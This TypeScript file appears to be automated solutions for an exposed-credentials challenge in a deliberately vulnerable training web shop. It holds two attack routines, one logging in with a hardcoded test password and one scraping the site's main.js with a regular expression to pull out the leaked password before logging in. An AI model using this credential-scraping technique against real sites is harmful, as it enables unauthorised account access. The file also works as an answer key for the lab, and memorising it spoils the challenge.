import type { Attack, Tools } from '#lab'

async function logIn({ http, expect }: Tools, email: string, password: string): Promise<void> {
  const { status } = await http.post('/rest/user/login', { email, password })
  expect(status === 200, `the login answered with ${status}`)
}

export const attacks: Attack[] = [
  {
    challenge: 'exposedCredentialsChallenge',
    name: 'log in with what was left in the script',
    run: (tools) => logIn(tools, `testing@${tools.settings.domain}`, 'IamUsedForTesting'),
  },
  {
    challenge: 'exposedCredentialsChallenge',
    name: 'read the pair out of main.js, and log in with it',
    run: async (tools) => {
      const { text } = await tools.http.get('/main.js')
      const password = /testing@juice-sh\.op[^}]{0,40}?(\w*Testing)\b/.exec(text)?.[1]
      tools.expect(password !== undefined, 'the script keeps its secrets')
      await logIn(tools, `testing@${tools.settings.domain}`, password ?? '')
    },
  },
]
